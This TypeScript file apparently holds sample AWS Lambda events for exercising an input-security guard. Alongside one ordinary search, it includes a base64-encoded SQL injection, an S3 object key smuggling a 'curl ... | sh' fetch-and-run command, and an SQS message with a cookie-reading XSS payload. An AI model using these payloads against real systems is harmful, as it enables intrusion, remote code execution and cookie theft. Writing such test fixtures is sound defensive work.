/** Lambda events to begin with: what comes in is what the guard sees. */
export const EXAMPLE_EVENTS: readonly { readonly title: string; readonly event: unknown }[] = [
  {
    title: 'HTTP API: an injection in base64 in the query',
    event: httpEvent({ user: base64("' UNION SELECT password FROM users --") }),
  },
  { title: 'HTTP API: an ordinary search', event: httpEvent({ user: 'Grace Hopper' }) },
  {
    title: 'S3: a command in the name of an object',
    event: {
      Records: [
        {
          eventVersion: '2.1',
          eventSource: 'aws:s3',
          awsRegion: 'eu-west-1',
          eventName: 'ObjectCreated:Put',
          s3: {
            s3SchemaVersion: '1.0',
            bucket: { name: 'uploads', arn: 'arn:aws:s3:::uploads' },
            object: { key: 'report.pdf%3B+curl+http%3A%2F%2F192.0.2.66%2Fx+%7C+sh', size: 1024 },
          },
        },
      ],
    },
  },
  {
    title: 'SQS: a script in a message',
    event: {
      Records: [
        {
          messageId: '059f36b4-87a3-44ab-83d2-661975830a7d',
          body: JSON.stringify({ order: 7, comment: '<img src=x onerror=alert(document.cookie)>' }),
          attributes: { ApproximateReceiveCount: '1' },
          messageAttributes: {},
          eventSource: 'aws:sqs',
          eventSourceARN: 'arn:aws:sqs:eu-west-1:123456789012:orders',
          awsRegion: 'eu-west-1',
        },
      ],
    },
  },
];

function httpEvent(query: Readonly<Record<string, string>>): unknown {
  return {
    version: '2.0',
    routeKey: 'GET /users',
    rawPath: '/users',
    rawQueryString: new URLSearchParams(query).toString(),
    headers: { 'user-agent': 'curl/8.5.0', host: 'api.example.com' },
    queryStringParameters: query,
    requestContext: {
      accountId: '123456789012',
      http: { method: 'GET', path: '/users', protocol: 'HTTP/1.1', sourceIp: '192.0.2.7' },
    },
    isBase64Encoded: false,
  };
}

function base64(text: string): string {
  return btoa(text);
}
